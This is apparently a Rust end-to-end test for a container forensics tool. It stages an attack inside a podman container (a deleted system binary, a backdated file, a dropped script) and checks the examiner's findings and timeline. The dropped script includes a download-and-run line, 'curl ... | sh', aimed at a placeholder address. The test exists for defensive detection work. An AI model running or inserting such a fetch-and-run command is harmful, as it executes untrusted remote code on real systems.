//! What the examiner sees of an attacked podman container (issue 19): anti-forensics findings (a
//! deleted system binary, a backdated modification time), indicators in a dropped script, the
//! timeline's default view of changed files, process start times at their precision, a body file
//! `mactime` shows without undated rows, and container ids of one length in text.

use crate::podman::{Container, Image, podman};
use crate::util::*;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::process::Command;

/// The dropped script: a comment, a URL, a download piped into a shell, a public address, and
/// an escape sequence that must not reach the examiner's terminal.
const SCRIPT: &str = "#!/bin/sh\n\
# update helper\n\
URL=http://198.51.100.23/payload\n\
curl -fsSL http://198.51.100.23/i.sh | sh\n\
ping -c1 203.0.113.50 \u{1b}[2J\n";

fn show_json(bundle: &str, what: &str) -> Value {
    let o = run(&["show", bundle, what, "--json"]);
    assert_eq!(code(&o), 0, "show {what}: {}", stderr(&o));
    json(&o)
}

fn timeline(bundle: &str, args: &[&str]) -> (String, String) {
    let mut all = vec!["timeline", bundle];
    all.extend_from_slice(args);
    let o = run(&all);
    assert_eq!(code(&o), 0, "timeline {args:?}: {}", stderr(&o));
    (stdout(&o), stderr(&o))
}

fn jsonl(text: &str) -> Vec<Value> {
    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// The host's boot time to the hundredth of a second (now − uptime), an oracle independent of
/// `btime`.
fn precise_boot_ns() -> i64 {
    let up: f64 = std::fs::read_to_string("/proc/uptime")
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64;
    now - (up * 1e9) as i64
}

/// Clock ticks after boot at which host process `pid` started (`/proc/PID/stat` field 22).
fn start_ticks(pid: u64) -> i64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    stat.rsplit_once(')')
        .unwrap()
        .1
        .split_whitespace()
        .nth(19)
        .unwrap()
        .parse()
        .unwrap()
}

#[test]
fn the_examiner_sees_what_the_attacker_did_and_no_more() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let tag = format!("x{}", std::process::id());
    let image = Image::build_with(
        w,
        &tag,
        &[
            ("etc/examiner-e2e", tag.as_bytes()),
            ("usr/bin/tool", b"#!/bin/sh\necho tool\n"),
        ],
    );
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
    let script = SCRIPT.replace('\'', "'\\''");
    // The attacker: deletes a system binary, backdates a program, drops a script; copies an
    // image file keeping its times (cp -p: not a backdated time).
    c.sh(&format!(
        "rm /bin/id && touch -d 2024-01-01 /usr/bin/tool \
         && printf '%s' '{script}' > /tmp/update.sh \
         && cp -p /bin/busybox /tmp/bb-copy"
    ));
    let created_ns: i64 = String::from_utf8(podman(&["inspect", "--format", "{{.Created.UnixNano}}", &c.name]).stdout)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let id = String::from_utf8(podman(&["inspect", "--format", "{{.Id}}", &c.name]).stdout).unwrap();
    let id = id.trim().to_string();
    let podman_diff: BTreeSet<String> = c
        .diff()
        .iter()
        .map(|l| l.split_once(' ').unwrap().1.to_string())
        .collect();
    let pid = u64::from(c.pid());
    let (key, _) = keygen(w, "responder");
    let bundle = w.join("attacked.zip");
    c.collect(&bundle, &key, &["--quiet"]);
    let b = bundle.to_str().unwrap();

    // 1. Anti-forensics: the deleted binary (show and diff), the backdated program; the cp -p
    //    copy is not raised.
    let sus = show_json(b, "suspicious");
    let findings = sus["findings"].as_array().unwrap();
    let of = |kind: &str| -> Vec<&Value> { findings.iter().filter(|f| f["kind"] == kind).collect() };
    let deleted = of("system-binary-deleted");
    assert_eq!(deleted.len(), 1, "{sus:#}");
    assert_eq!(deleted[0]["severity"], "high");
    assert_eq!(
        deleted[0]["message"],
        "program or library deleted in the container: /bin/id"
    );
    assert!(
        deleted[0]["evidence"][0]
            .as_str()
            .unwrap()
            .starts_with("5-filesystem/upper-changes.jsonl line "),
        "{sus:#}"
    );
    let backdated = of("mtime-backdated");
    assert_eq!(backdated.len(), 1, "only /usr/bin/tool, not the cp -p copy: {sus:#}");
    assert_eq!(backdated[0]["severity"], "medium");
    let msg = backdated[0]["message"].as_str().unwrap();
    assert!(msg.starts_with("/usr/bin/tool: modified 2024-01-01T"), "{msg}");
    assert!(msg.contains("its modification time was set back"), "{msg}");
    let o = run(&["diff", b, "--image-from-bundle", "--json"]);
    let d = json(&o);
    let diff_deleted: Vec<&Value> = d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "system-binary-deleted")
        .collect();
    assert_eq!(diff_deleted.len(), 1, "{d:#}");
    assert_eq!(diff_deleted[0]["path"], "/bin/id");
    assert_eq!(
        diff_deleted[0]["message"],
        "program or library /bin/id (symlink of the image) was deleted"
    );

    // 2. Indicators of the dropped script, each line quoted with its member and line number.
    let at = |kind: &str| -> Vec<(String, String, String)> {
        of(kind)
            .iter()
            .map(|f| {
                (
                    f["severity"].as_str().unwrap().to_string(),
                    f["message"].as_str().unwrap().to_string(),
                    f["evidence"][0].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let member = "5-filesystem/root/tmp/update.sh";
    assert_eq!(
        at("download-and-run"),
        [(
            "high".to_string(),
            "/tmp/update.sh line 4 downloads code and runs it: \"curl -fsSL http://198.51.100.23/i.sh | sh\""
                .to_string(),
            format!("{member} line 4")
        )]
    );
    assert_eq!(
        at("script-url"),
        [(
            "medium".to_string(),
            "/tmp/update.sh line 3 names http://198.51.100.23/payload: \"URL=http://198.51.100.23/payload\""
                .to_string(),
            format!("{member} line 3")
        )]
    );
    assert_eq!(
        at("script-ip-address"),
        [(
            "medium".to_string(),
            "/tmp/update.sh line 5 names 203.0.113.50 (public): \"ping -c1 203.0.113.50 \\u{1b}[2J\"".to_string(),
            format!("{member} line 5")
        )]
    );
    let text = stdout(&run(&["show", b, "suspicious"]));
    assert!(text.contains("curl -fsSL http://198.51.100.23/i.sh | sh"), "{text}");
    assert!(!text.contains('\u{1b}'), "an escape sequence reached the terminal");
    // The busybox copy (over 1 MiB) is counted as not scanned.
    let not_checked: Vec<&str> = sus["not_checked"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    assert!(
        not_checked.contains(&"indicators in temporary directories: 1 file not scanned (1 larger than 1048576 bytes)"),
        "{not_checked:?}"
    );

    // 3. The default timeline: file events only of the files the container changed. The oracle:
    //    podman diff (the writable layer) and podman's creation time, applied to --all.
    let (all, _) = timeline(b, &["--all", "--format", "jsonl"]);
    let (changed, notes) = timeline(b, &["--format", "jsonl"]);
    let all = jsonl(&all);
    let changed = jsonl(&changed);
    let mut by_entry: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for e in all.iter().filter(|e| e["source"] == "file") {
        by_entry
            .entry(e["evidence"].as_str().unwrap().to_string())
            .or_default()
            .push(e);
    }
    let kept = |events: &[&Value]| {
        events.iter().any(|e| e["time_ns"].as_i64().unwrap() >= created_ns)
            || podman_diff.contains(events[0]["detail"]["path"].as_str().unwrap())
    };
    let expected: usize = by_entry.values().filter(|e| kept(e)).map(Vec::len).sum();
    let hidden = by_entry.values().filter(|e| !kept(e)).count();
    let shown: Vec<&Value> = changed.iter().filter(|e| e["source"] == "file").collect();
    assert_eq!(shown.len(), expected);
    assert!(hidden > 20, "the image's untouched files: {hidden}");
    assert_eq!(
        changed.iter().filter(|e| e["source"] != "file").count(),
        all.iter().filter(|e| e["source"] != "file").count(),
        "every event that is not a file is shown"
    );
    let paths: BTreeSet<&str> = shown.iter().map(|e| e["detail"]["path"].as_str().unwrap()).collect();
    for p in ["/usr/bin/tool", "/tmp/update.sh", "/tmp/bb-copy", "/bin", "/tmp"] {
        assert!(paths.contains(p), "{p} changed: {paths:?}");
    }
    for p in ["/etc/motd", "/usr/bin/report", "/bin/busybox", "/etc/examiner-e2e"] {
        assert!(!paths.contains(p), "{p} untouched: {paths:?}");
    }
    // The backdated program shows both its times: the set-back mtime and today's ctime.
    let tool: Vec<&str> = shown
        .iter()
        .filter(|e| e["detail"]["path"] == "/usr/bin/tool")
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(tool, ["m...", "..c."]);
    assert!(
        notes.contains(&format!(
            "forensic: note: files: {hidden} entries of the index left out"
        )),
        "{notes}"
    );

    // 4. Process starts at their precision: hundredths, ± 0.51 s, the true start inside.
    let procs = show_json(b, "processes");
    let first = &procs["processes"][0];
    assert_eq!(first["pid"], pid);
    assert_eq!(first["start_time_uncertainty_ns"], 505_000_000);
    let start = first["start_time"].as_str().unwrap();
    assert_eq!(start.len(), "2024-05-07T18:54:19.81Z".len(), "{start}");
    let truth = precise_boot_ns() + start_ticks(pid) * 10_000_000;
    let shown_ns = first["start_time_ns"].as_i64().unwrap();
    assert!(
        (shown_ns - truth).abs() <= 505_000_000 + 20_000_000,
        "start {shown_ns} vs {truth}"
    );
    assert!(
        procs["boot_time"].as_str().unwrap().ends_with(":00Z") || !procs["boot_time"].as_str().unwrap().contains('.')
    );
    let text = stdout(&run(&["show", b, "processes"]));
    assert!(text.contains(&format!("{start}±0.51s")), "{text}");
    // In the timeline the container's first process does not start before the container.
    let events: Vec<&Value> = changed
        .iter()
        .filter(|e| e["source"] == "container" || (e["source"] == "process" && e["detail"]["pid"] == pid))
        .collect();
    assert_eq!(events.len(), 2);
    assert_eq!(events[0]["source"], "container", "{events:?}");
    assert!(events[1]["uncertainty_ns"].as_i64().unwrap() <= 505_000_000);
    assert!(
        events[1]["time_ns"].as_i64().unwrap() - events[1]["uncertainty_ns"].as_i64().unwrap() >= created_ns - 1,
        "{events:?}"
    );
    let (text, _) = timeline(b, &[]);
    let line = text
        .lines()
        .find(|l| l.contains(&format!("start        pid {pid} ")))
        .unwrap();
    assert!(line.split_whitespace().next().unwrap().contains('±'), "{line}");

    // 5. The body file: mactime prints no undated row, in either view.
    for args in [&["--format", "bodyfile"][..], &["--format", "bodyfile", "--all"][..]] {
        let body = w.join("body.txt");
        std::fs::write(&body, timeline(b, args).0).unwrap();
        for extra in [&[][..], &["-d", "-y"][..]] {
            let o = Command::new("mactime")
                .arg("-b")
                .arg(&body)
                .args(extra)
                .env("TZ", "UTC")
                .output()
                .expect("mactime (Debian package sleuthkit) is installed");
            assert!(o.status.success(), "mactime: {}", String::from_utf8_lossy(&o.stderr));
            let out = String::from_utf8_lossy(&o.stdout);
            assert!(out.lines().count() > 10, "{out}");
            assert!(
                !out.contains("Xxx") && !out.contains("0000-00-00"),
                "mactime {args:?} {extra:?}:\n{out}"
            );
            assert!(out.contains("/usr/bin/tool"), "{out}");
        }
    }

    // 6. Container ids: 12 characters in text, 64 in --json.
    let short = &id[..12];
    for args in [vec!["show", b, "summary"], vec!["timeline", b], vec!["verify", b]] {
        let o = run(&args);
        let text = stdout(&o);
        assert!(text.contains(short), "{args:?}: {text}");
        assert!(!text.contains(&id), "{args:?} prints the 64-character id: {text}");
    }
    assert_eq!(show_json(b, "summary")["target"]["container_id"], id.as_str());
    let container = changed.iter().find(|e| e["source"] == "container").unwrap();
    assert_eq!(container["detail"]["container_id"], id.as_str());
}
